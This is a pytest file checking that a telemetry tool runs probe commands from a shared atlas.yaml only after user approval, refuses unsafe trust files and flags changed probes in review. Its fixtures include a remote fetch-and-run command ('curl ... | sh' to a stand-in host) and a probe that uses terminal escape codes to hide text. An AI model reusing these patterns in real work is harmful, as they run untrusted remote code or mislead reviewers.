"""A probe string in the shared atlas.yaml is a proposal, not a command: the prober runs
only what its own user trusts, and `atlas check` shows a changed probe to a reviewer."""

from __future__ import annotations

import json
import shlex
import shutil
from pathlib import Path

import pytest
import yaml
from support.git import git
from support.prober import ANSWER, own_home
from support.runner import Result, run_atlas

from atlas_files.protocol.telemetry import probe as probemod
from atlas_files.protocol.telemetry import trust
from atlas_files.storage import ownfiles
from atlas_files.storage.record import Record


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The prober's own home: approvals and probes files live here, never in the real one."""
    return own_home(tmp_path, monkeypatch)


def _touch(path: Path) -> str:
    return f"touch {shlex.quote(str(path))}"


def _set_probe(record: Record, machine: str, probe: str) -> None:
    """Edit atlas.yaml by hand, as any writer of the record can."""
    config = record.root / "atlas.yaml"
    raw = yaml.safe_load(config.read_text())
    raw.setdefault("machines", {})[machine] = {"probe": probe, "timeout": "5s"}
    config.write_text(yaml.safe_dump(raw))


def _row(record: Record, machine: str) -> dict[str, object]:
    data: dict[str, object] = json.loads((record.telemetry_dir / f"{machine}.json").read_text())
    return data


def _probe(record: Record, *args: str) -> Result:
    return run_atlas("telemetry", "probe", *args, record=record.root, identity="prober")


def test_an_atlas_yaml_probe_runs_only_once_approved_and_stops_when_it_changes(
        record: Record, tmp_path: Path) -> None:
    pwned = tmp_path / "pwned"
    _set_probe(record, "evil", _touch(pwned))
    _set_probe(record, "here", "local")
    res = _probe(record)
    assert res.returncode == 0, res.stderr  # the rows were written
    assert not pwned.exists()
    row = _row(record, "evil")
    assert row["reachable"] is False and row["gpus"] == []
    assert "probe not approved" in str(row["error"])
    assert "`atlas telemetry approve evil`" in str(row["error"])
    assert "evil: NOT RUN: probe not approved" in res.stdout
    assert "warning: evil: probe not approved" in res.stderr and str(pwned) in res.stderr
    assert _row(record, "here")["reachable"] is True  # local needs no approval

    refused = run_atlas("telemetry", "approve", "evil", record=record.root, input="n\n")
    assert refused.returncode == 2 and _touch(pwned) in refused.stdout
    folder = ownfiles.config_dir()
    assert folder is not None
    assert not (folder / trust.APPROVALS_NAME).exists()
    assert not pwned.exists()

    ok = run_atlas("telemetry", "approve", "evil", record=record.root, input="y\n")
    assert ok.returncode == 0, ok.stderr
    assert _touch(pwned) in ok.stdout  # the exact string approved was shown
    assert _probe(record).returncode == 0
    assert pwned.exists()
    assert "probe not approved" not in str(_row(record, "evil")["error"])

    pwned.unlink()
    _set_probe(record, "evil", _touch(pwned) + " ")  # one space: another string
    res = _probe(record, "evil")
    assert res.returncode == 0 and not pwned.exists()
    assert "changed since it was approved" in str(_row(record, "evil")["error"])
    assert run_atlas("telemetry", "approve", "evil", "--yes",
                     record=record.root).returncode == 0
    assert _probe(record, "evil").returncode == 0 and pwned.exists()


def test_an_approval_holds_for_its_record_only(record: Record, tmp_path: Path) -> None:
    pwned = tmp_path / "pwned"
    _set_probe(record, "evil", _touch(pwned))
    trust.approve(record, "evil", _touch(pwned))
    copy = Record(shutil.copytree(record.root, tmp_path / "copy"))
    (outcome,) = probemod.probe_once(copy, "prober", ["evil"])
    assert outcome.not_run and not outcome.reachable and not pwned.exists()
    (outcome,) = probemod.probe_once(record, "prober", ["evil"])
    assert not outcome.not_run and pwned.exists()


def test_the_probers_own_probes_file_runs_its_commands(record: Record, tmp_path: Path,
                                                       home: Path) -> None:
    evil, mine, default = tmp_path / "evil", tmp_path / "mine", tmp_path / "default"
    _set_probe(record, "gpubox", _touch(evil))
    probes = tmp_path / "my-probes.yaml"
    probes.write_text(yaml.safe_dump({
        "gpubox": {"probe": f"{_touch(mine)}; {ANSWER}", "timeout": "5s", "interval": "5m"},
        "extra": {"probe": ANSWER}}))
    res = _probe(record, "--probes", str(probes))
    assert res.returncode == 0, res.stderr
    assert mine.exists() and not evil.exists()  # the file's command, not atlas.yaml's
    assert _row(record, "gpubox")["reachable"] is True and _row(record, "gpubox")["error"] is None
    assert _row(record, "extra")["reachable"] is True  # a machine of the file alone
    assert "warning" not in res.stderr

    # Without --probes, the per-user file is used if there is one.
    own = home / ".config" / "atlas"
    own.mkdir(parents=True)
    (own / "probes.yaml").write_text(yaml.safe_dump({"gpubox": {"probe": _touch(default)}}))
    assert _probe(record, "gpubox").returncode == 0
    assert default.exists() and not evil.exists()


def test_trust_files_inside_the_record_or_writable_by_others_are_refused(
        record: Record, tmp_path: Path, home: Path) -> None:
    pwned = tmp_path / "pwned"
    _set_probe(record, "evil", _touch(pwned))
    inside = record.root / "probes.yaml"
    inside.write_text(yaml.safe_dump({"evil": {"probe": _touch(pwned)}}))
    res = _probe(record, "--probes", str(inside))
    assert res.returncode == 2 and "inside the record" in res.stderr
    assert "hint: move it out of the record" in res.stderr

    loose = tmp_path / "loose.yaml"
    loose.write_text(yaml.safe_dump({"evil": {"probe": _touch(pwned)}}))
    loose.chmod(0o666)
    res = _probe(record, "--probes", str(loose))
    assert res.returncode == 2 and "can be written by other users" in res.stderr
    assert f"chmod go-w {loose}" in res.stderr
    assert not pwned.exists()

    assert run_atlas("telemetry", "approve", "evil", "--yes",
                     record=record.root).returncode == 0
    approvals = home / ".config" / "atlas" / trust.APPROVALS_NAME
    approvals.chmod(0o620)
    res = _probe(record, "evil")
    assert res.returncode == 2 and "approvals file" in res.stderr and not pwned.exists()
    again = run_atlas("telemetry", "approve", "evil", "--yes", record=record.root)
    assert again.returncode == 2 and "chmod go-w" in again.stderr
    approvals.chmod(0o600)
    assert _probe(record, "evil").returncode == 0 and pwned.exists()

    # A config home inside the record is the record's, not the prober's.
    res = run_atlas("telemetry", "approve", "evil", "--yes", record=record.root,
                    env={"XDG_CONFIG_HOME": str(record.root / "cfg")})
    assert res.returncode == 2 and "inside the record" in res.stderr
    assert not (record.root / "cfg").exists()


def test_a_probe_with_control_characters_is_shown_escaped_for_approval(
        record: Record) -> None:
    sneaky = "echo hi\r\x1b[2Kecho harmless"
    _set_probe(record, "box", sneaky)
    res = run_atlas("telemetry", "approve", "box", "--yes", record=record.root)
    assert res.returncode == 0, res.stderr
    assert "\x1b" not in res.stdout and "\r" not in res.stdout
    assert "\\x1b[2K" in res.stdout and "shown escaped" in res.stdout
    assert trust.load(record).target(record.config.machines["box"], "box").refusal is None


# -- atlas check: a new or changed probe is a finding --------------------------------------

@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    git(root, "config", "user.email", "test@example.invalid")
    git(root, "config", "user.name", "test")
    git(root, "config", "commit.gpgsign", "false")
    Record.init(root / "rec", ["web"])
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "record")
    return root


def _findings(res: Result) -> list[tuple[str, int, str, str]]:
    return [(f["path"], f["line"], f["code"], f["message"]) for f in res.json()["findings"]]


def test_check_reports_a_new_or_changed_probe_command(repo: Path) -> None:
    record = Record(repo / "rec")
    probemod.add_machine(record, "here", "local")
    probemod.add_machine(record, "gpubox", "ssh gpubox atlas telemetry sample --json")
    line = (repo / "rec" / "atlas.yaml").read_text().splitlines().index("  gpubox:") + 1
    git(repo, "add", "-A")
    staged = run_atlas("check", "--staged", "--json", cwd=repo)
    assert staged.returncode == 1, staged.stdout
    assert _findings(staged) == [(
        "rec/atlas.yaml", line, "ATL050", "this commit adds machine gpubox with the probe "
        "command ssh gpubox atlas telemetry sample --json")]  # local is no command
    (finding,) = staged.json()["findings"]
    assert finding["severity"] == "error" and "review it" in finding["hint"]
    plain = run_atlas("check", "--json", cwd=repo / "rec")
    assert [f[2] for f in _findings(plain)] == ["ATL050"]
    assert "since the last commit" in _findings(plain)[0][3]

    git(repo, "commit", "-q", "-m", "machines (reviewed)")
    assert run_atlas("check", "--staged", cwd=repo).returncode == 0
    assert run_atlas("check", cwd=repo / "rec").returncode == 0

    probemod.add_machine(record, "gpubox", "curl -s https://example.invalid/x | sh")
    git(repo, "add", "-A")
    changed = run_atlas("check", "--staged", "--json", cwd=repo)
    assert changed.returncode == 1
    (found,) = _findings(changed)
    assert found[2] == "ATL050" and "changes the probe command of machine gpubox" in found[3]
    assert "(it was ssh gpubox atlas telemetry sample --json)" in found[3]
    text = run_atlas("check", "--staged", cwd=repo)
    assert "rec/atlas.yaml:" in text.stdout and "ATL050" in text.stdout

    # Only what can make someone run something new: not a timeout, not a removal.
    git(repo, "reset", "-q", "--hard")
    probemod.add_machine(Record(repo / "rec"), "gpubox", "ssh gpubox atlas telemetry sample --json",
                   timeout="30s")
    config = repo / "rec" / "atlas.yaml"
    raw = yaml.safe_load(config.read_text())
    del raw["machines"]["here"]
    config.write_text(yaml.safe_dump(raw))
    git(repo, "add", "-A")
    quiet = run_atlas("check", "--staged", cwd=repo)
    assert quiet.returncode == 0, quiet.stdout


def test_plain_check_outside_git_or_of_an_untracked_record_says_nothing_of_machines(
        tmp_path: Path, repo: Path) -> None:
    loose = Record.init(tmp_path / "loose", ["web"])
    probemod.add_machine(loose, "gpubox", "ssh gpubox atlas telemetry sample --json")
    assert run_atlas("check", cwd=loose.root).returncode == 0
    untracked = Record.init(repo / "later", ["web"])
    probemod.add_machine(untracked, "gpubox", "ssh gpubox atlas telemetry sample --json")
    assert run_atlas("check", cwd=untracked.root).returncode == 0
    git(repo, "add", "later/atlas.yaml")  # staged: now about to be committed
    res = run_atlas("check", "--json", cwd=untracked.root)
    assert [f[2] for f in _findings(res)] == ["ATL050"]


def test_the_per_user_folder_follows_xdg_config_home(home: Path, tmp_path: Path) -> None:
    assert ownfiles.config_dir() == home / ".config" / "atlas"
    xdg = tmp_path / "xdg"
    assert ownfiles.config_dir({"XDG_CONFIG_HOME": str(xdg), "HOME": str(home)}) == xdg / "atlas"
    # The XDG spec ignores a relative value.
    assert ownfiles.config_dir({"XDG_CONFIG_HOME": "rel", "HOME": str(home)}) == \
        home / ".config" / "atlas"
